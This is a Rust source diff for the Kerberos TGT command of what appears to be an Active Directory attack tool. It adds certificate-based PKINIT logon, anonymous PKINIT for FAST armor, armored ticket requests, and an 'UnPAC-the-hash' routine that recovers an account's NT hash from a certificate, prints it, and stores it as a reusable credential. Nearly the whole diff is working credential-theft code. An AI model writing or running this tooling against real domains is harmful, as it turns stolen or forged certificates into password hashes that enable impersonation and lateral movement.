@@ -1,46 +1,172 @@
-use ascii::AsciiString;
-use base64::{prelude::BASE64_STANDARD, Engine};
+use std::path::PathBuf;
+
 use clap::Args;
-use himmelblau_kerbeiros::TgtRequester;
-use himmelblau_kerberos_crypto::Key;
 
-use crate::{app::App, cli::commands::Command, data::AuthData};
+use crate::{
+    app::App,
+    cli::commands::Command,
+    data::{AuthData, Credential, CredentialType},
+    kerberos::{
+        fast::armored_tgt,
+        pac::unpac_the_hash,
+        pkinit::{anonymous_pkinit_tgt, pkinit_tgt, PkinitCertificate, ANONYMOUS_PRINCIPAL},
+        ticket::{encode_ticket, request_tgt, session_ticket_from_ccache},
+    },
+};
 
 #[derive(Debug, Args, Clone)]
-pub struct TgtArgs;
+pub struct TgtArgs {
+    /// Authenticate with a certificate (PKINIT) and recover the NT hash of the account
+    #[arg(long)]
+    pub pkinit: bool,
+
+    /// PFX or PEM file with the certificate and private key (defaults to the current certificate credential)
+    #[arg(long, requires = "pkinit")]
+    pub pfx: Option<PathBuf>,
+
+    /// Password of the PFX file
+    #[arg(long, default_value = "", requires = "pfx")]
+    pub pfx_password: String,
+
+    /// Account the certificate was issued for (defaults to the current credential when the certificate
+    /// is its own, else the UPN or CN of the certificate)
+    #[arg(short, long, requires = "pkinit")]
+    pub username: Option<String>,
+
+    /// With --pkinit, request an anonymous TGT to use as FAST armor (MIT and Heimdal KDCs only)
+    #[arg(long, requires = "pkinit", conflicts_with_all = ["pfx", "username"])]
+    pub anonymous: bool,
+
+    /// Armor the AS exchange (FAST) with the TGT of this stored credential, e.g. a machine account TGT
+    #[arg(long, conflicts_with = "pkinit")]
+    pub armor: Option<String>,
+}
+
+impl TgtArgs {
+    async fn anonymous(&self, app: &mut App) -> Result<(), String> {
+        let dc = app.get_current_dc()?;
+        let ccache = anonymous_pkinit_tgt(&dc).await?;
+        println!("Anonymous TGT obtained with PKINIT");
+
+        let mut creds = Credential::new_password(ANONYMOUS_PRINCIPAL.to_string(), String::new(), "PKINIT".to_string());
+        creds.auth_data = AuthData::KerberosTicket(encode_ticket(ccache));
+        creds.target_dc = Some(dc.domain_name.clone());
+        let id = app.credential_storage().add_credential(creds)?;
+        println!("New credential added to storage, use it with --armor {}", id);
+        Ok(())
+    }
+
+    async fn pkinit(&self, app: &mut App) -> Result<(), String> {
+        let dc = app.get_current_dc()?;
+        let current = app.current_used_creds.clone();
+
+        let (certificate, certificate_id) = match (&self.pfx, &current) {
+            (Some(path), _) => {
+                let data = std::fs::read(path).map_err(|e| e.to_string())?;
+                (PkinitCertificate::from_file(&data, &self.pfx_password)?, None)
+            }
+            (None, Some(creds)) if matches!(creds.auth_data, AuthData::Certificate { .. }) => {
+                (PkinitCertificate::from_auth_data(&creds.auth_data)?, Some(creds.id.clone()))
+            }
+            _ => return Err("Please pass a --pfx file or use a certificate credential".to_string()),
+        };
+
+        // The current credential only describes the certificate when the certificate is its own
+        let owner = current.as_ref().filter(|_| certificate_id.is_some());
+        let username = self
+            .username
+            .clone()
+            .or(owner.map(|c| c.username.clone()))
+            .or(certificate
+                .user_principal_name()
+                .map(|upn| upn.split('@').next().unwrap_or_default().to_string()))
+            .or(certificate.common_name())
+            .ok_or("Please pass the --username the certificate was issued for".to_string())?;
+        let credential_type = owner
+            .filter(|c| c.username.eq_ignore_ascii_case(&username))
+            .map_or(CredentialType::Unknown, |c| c.credential_type.clone());
+
+        let (ccache, reply_key) = pkinit_tgt(&dc, &username, &certificate).await?;
+        println!("TGT obtained for {} with PKINIT", username);
+        let tgt = session_ticket_from_ccache(&ccache)?;
+
+        // Keep the certificate in the store so the derived credentials can point to it
+        let certificate_id = match certificate_id {
+            Some(id) => id,
+            None => {
+                let mut cert_creds = Credential::new_password(username.clone(), String::new(), "pfx".to_string());
+                cert_creds.auth_data = certificate.to_auth_data()?;
+                cert_creds.credential_type = credential_type.clone();
+                cert_creds.target_dc = Some(dc.domain_name.clone());
+                cert_creds.mark_validated();
+                app.credential_storage().add_credential(cert_creds)?
+            }
+        };
+
+        let mut tgt_creds = Credential::new_password(username.clone(), String::new(), "PKINIT".to_string());
+        tgt_creds.auth_data = AuthData::KerberosTicket(encode_ticket(ccache));
+        tgt_creds.credential_type = credential_type.clone();
+        tgt_creds.target_dc = Some(dc.domain_name.clone());
+        tgt_creds.set_metadata("certificate".to_string(), certificate_id.clone());
+        app.credential_storage().add_credential(tgt_creds)?;
+        println!("New credential added to storage !");
+
+        match unpac_the_hash(&dc, &tgt, &reply_key).await {
+            Ok(nt_hash) => {
+                println!("NT hash of {}: {}", username, nt_hash);
+                let auth_data = AuthData::NtlmHash(nt_hash.clone());
+                if !app.credential_storage().contains_auth_data(&username, &auth_data) {
+                    let mut hash_creds = Credential::new_ntlm_hash(username.clone(), nt_hash, "UnPAC-the-hash".to_string());
+                    hash_creds.credential_type = credential_type;
+                    hash_creds.target_dc = Some(dc.domain_name.clone());
+                    hash_creds.set_metadata("certificate".to_string(), certificate_id);
+                    hash_creds.mark_validated();
+                    app.credential_storage().add_credential(hash_creds)?;
+                    println!("New credential added to storage !");
+                }
+            }
+            Err(e) => println!("Failed to recover the NT hash: {}", e),
+        }
+        Ok(())
+    }
+}
 
 impl Command for TgtArgs {
     async fn execute(&self, app: &mut App) -> Result<bool, String> {
-        let (dc, creds) = app.get_current_context()?;
-        // Prepare the arguments
-
-        let user_key = match &creds.auth_data {
-            crate::data::AuthData::Password(pass) => Key::from_rc4_key_string(ntlm_hash::ntlm_hash(pass.clone().as_str()).as_str()),
-            crate::data::AuthData::NtlmHash(hash) => Key::from_rc4_key_string(hash.clone().as_str()),
-            _ => return Err("Unsupported authentication type".to_string()),
-        }.map_err(|e| e.to_string())?;
+        if self.pkinit && self.anonymous {
+            self.anonymous(app).await?;
+            return Ok(false);
+        }
+        if self.pkinit {
+            self.pkinit(app).await?;
+            return Ok(false);
+        }
 
-        let realm = AsciiString::from_ascii(dc.domain_name.clone()).unwrap();
-        let kdc_address = dc.ip_address.clone();
-        let username = AsciiString::from_ascii(creds.username.clone()).unwrap();
+        let (dc, creds) = app.get_current_context()?;
 
         // Request the TGT
-        let tgt_requester = TgtRequester::new(realm, kdc_address);
-        let credential = tgt_requester.request(&username, Some(&user_key)).map_err(|e| e.to_string())?;
+        let ccache = match &self.armor {
+            Some(id) => {
+                let armor = app
+                    .credential_storage()
+                    .get_credential(id)
+                    .cloned()
+                    .ok_or(format!("No credential with id {}", id))?;
+                armored_tgt(&app.domain_controller_storage, &dc, &creds, &armor).await?
+            }
+            None => request_tgt(&app.domain_controller_storage, &dc, &creds).await?,
+        };
 
         println!("TGT Key Retreived !");
         println!("Building ccache...");
 
-        let ccache: himmelblau_kerberos_ccache::Credential = credential.into();
-
-
-        let ccache_data = BASE64_STANDARD.encode(&ccache.build());
+        let ccache_data = encode_ticket(ccache);
 
         let mut new_creds = creds.clone();
         new_creds.id = uuid::Uuid::new_v4().to_string();
         new_creds.auth_data = AuthData::KerberosTicket(ccache_data);
         new_creds.source = "Tgt".to_string();
-        app.credential_storage().add_credential(new_creds).map_err(|e| e.to_string())?;        
+        app.credential_storage().add_credential(new_creds).map_err(|e| e.to_string())?;
         println!("New credential added to storage !");
         Ok(false)
     }